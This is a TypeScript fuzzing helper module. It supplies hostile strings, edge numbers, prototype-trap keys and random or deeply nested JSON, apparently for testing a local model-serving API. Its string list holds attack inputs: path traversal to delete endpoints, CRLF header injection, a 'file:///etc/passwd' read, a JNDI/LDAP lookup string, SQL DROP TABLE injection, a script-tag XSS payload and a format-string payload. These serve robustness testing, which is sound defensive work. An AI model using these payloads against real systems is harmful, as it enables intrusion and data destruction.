/**
 * Atoms for the fuzzers: hostile strings, edge numbers, random JSON values and object keys that are
 * traps for JavaScript (prototype keys), all drawn from a seeded Prng.
 */
import type { Prng } from './prng';

/** Strings aimed at routing, templating, logging and text handling. */
export const HOSTILE_STRINGS: readonly string[] = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\udfff',
  '\udc00\ud800',
  'x\ud83dy',
  '\u202e',
  'abc\u202edcba\u202c',
  '\u200b\u200c\u200d\u2060',
  '\ufeff',
  '\uffff',
  '\ufffe',
  '\u2028\u2029',
  '\u{1f3f3}\u{fe0f}\u200d\u{1f308}',
  '\u{10ffff}',
  'e\u0301'.repeat(200),
  '\u0130\u0131\u017f\u212a',
  '\r\n\r\nGET /api/pull HTTP/1.1\r\n\r\n',
  '\r\nX-Injected: 1',
  '../../api/delete',
  '../api/pull',
  '/api/pull',
  '/api/delete',
  '/api/create',
  '..%2f..%2fapi%2fpull',
  '%2e%2e/%2e%2e/api/delete',
  '..\\..\\api\\delete',
  'http://127.0.0.1:11434/api/pull',
  'file:///etc/passwd',
  '//evil.example/api/pull',
  'qwen2.5:7b/../../api/pull',
  'qwen2.5:7b?x=/api/delete',
  'qwen2.5:7b#/api/pull',
  'qwen2.5:7b%00',
  'qwen2.5:7b\u0000',
  'QWEN2.5:7B',
  ' qwen2.5:7b',
  'qwen2.5:7b ',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '{{.Prompt}}{{ .System }}',
  '${jndi:ldap://x.example/a}',
  "'; DROP TABLE ledger; --",
  '<script>alert(1)</script>',
  '%s%s%s%n',
  'urn:iicp:intent:tool:exec:v1',
  'urn:iicp:intent:llm:chat:v1\u0000',
  'a'.repeat(129),
  'b'.repeat(257),
  'c'.repeat(4096),
];

export const EDGE_NUMBERS: readonly number[] = [
  0,
  -0,
  1,
  -1,
  0.5,
  1.5,
  2,
  100,
  99,
  101,
  2 ** 31,
  -(2 ** 31),
  2 ** 32,
  2 ** 53,
  2 ** 53 + 2,
  -(2 ** 53),
  1e21,
  1e308,
  -1e308,
  5e-324,
  300_000,
  300_001,
];

/** Keys that mean something to JavaScript objects or to our parsers. */
export const TRAP_KEYS: readonly string[] = [
  '__proto__',
  'constructor',
  'prototype',
  '__defineGetter__',
  '__lookupSetter__',
  'toString',
  'valueOf',
  'hasOwnProperty',
  'toJSON',
  'then',
  '',
  ' ',
  '\u0000',
  '\ud800',
  'task_id ',
  'TASK_ID',
  'payload\u0000',
];

/** A string of random code points from ranges that trip text handling. */
export function randomText(r: Prng, maxLen = 40): string {
  const n = r.int(0, maxLen);
  let s = '';
  for (let i = 0; i < n; i++) {
    const range = r.weighted<[number, number]>([
      [4, [0x20, 0x7e]],
      [1, [0x00, 0x1f]],
      [1, [0x7f, 0xff]],
      [1, [0x100, 0x2fff]],
      [1, [0xd800, 0xdfff]],
      [1, [0xe000, 0xffff]],
      [1, [0x10000, 0x10ffff]],
    ]);
    s += String.fromCodePoint(r.int(range[0], range[1]));
  }
  return s;
}

export function hostileString(r: Prng): string {
  return r.chance(0.7) ? r.pick(HOSTILE_STRINGS) : randomText(r);
}

/** Any JSON value, small, sometimes nested. */
export function randomJson(r: Prng, depth = 0): unknown {
  const k = r.int(0, depth >= 3 ? 5 : 8);
  switch (k) {
    case 0:
      return null;
    case 1:
      return r.chance(0.5);
    case 2:
      return r.pick(EDGE_NUMBERS);
    case 3:
      return hostileString(r);
    case 4:
      return randomText(r, 8);
    case 5:
      return r.int(-5, 5);
    case 6:
      return Array.from({ length: r.int(0, 3) }, () => randomJson(r, depth + 1));
    case 7: {
      const o: Record<string, unknown> = {};
      for (let i = r.int(0, 3); i > 0; i--)
        defineKey(o, r.chance(0.4) ? r.pick(TRAP_KEYS) : randomText(r, 6), randomJson(r, depth + 1));
      return o;
    }
    default:
      return r.chance(0.5) ? {} : [];
  }
}

/** typeof with arrays and null told apart. */
export function jsonType(v: unknown): string {
  if (v === null) return 'null';
  if (Array.isArray(v)) return 'array';
  return typeof v;
}

/** A random JSON value of another type than `current`. */
export function wrongTypeValue(r: Prng, current: unknown): unknown {
  for (let i = 0; i < 20; i++) {
    const v = randomJson(r);
    if (jsonType(v) !== jsonType(current)) return v;
  }
  return jsonType(current) === 'string' ? 42 : 'wrong';
}

/**
 * Sets `o[key] = value` as an own, enumerable data property — also for `__proto__`, which a plain
 * assignment would turn into a prototype change (JSON.parse on the node makes it an own key too).
 */
export function defineKey(o: Record<string, unknown>, key: string, value: unknown): void {
  Object.defineProperty(o, key, { value, enumerable: true, writable: true, configurable: true });
}

/** `[[[…]]]` or `{"a":{"a":…}}` nested `depth` levels, as JSON text (built without recursion). */
export function deepJsonText(depth: number, kind: 'array' | 'object' | 'mixed', r?: Prng): string {
  if (kind === 'array') return '['.repeat(depth) + ']'.repeat(depth);
  if (kind === 'object') return '{"a":'.repeat(depth) + '1' + '}'.repeat(depth);
  const opens: string[] = [];
  const closes: string[] = [];
  for (let i = 0; i < depth; i++) {
    if (r?.chance(0.5)) {
      opens.push('[');
      closes.push(']');
    } else {
      opens.push('{"k":');
      closes.push('}');
    }
  }
  return opens.join('') + 'null' + closes.reverse().join('');
}

/**
 * Nesting depth of a JSON value, computed without recursion (the values under test are built to blow
 * recursive walkers' stacks).
 */
export function nestingDepth(root: unknown, limit = Number.POSITIVE_INFINITY): number {
  let max = 0;
  const stack: [unknown, number][] = [[root, 0]];
  while (stack.length > 0) {
    const [v, d] = stack.pop()!;
    if (typeof v !== 'object' || v === null) continue;
    const here = d + 1;
    if (here > max) max = here;
    if (max >= limit) return max;
    for (const child of Array.isArray(v) ? v : Object.values(v)) stack.push([child, here]);
  }
  return max;
}
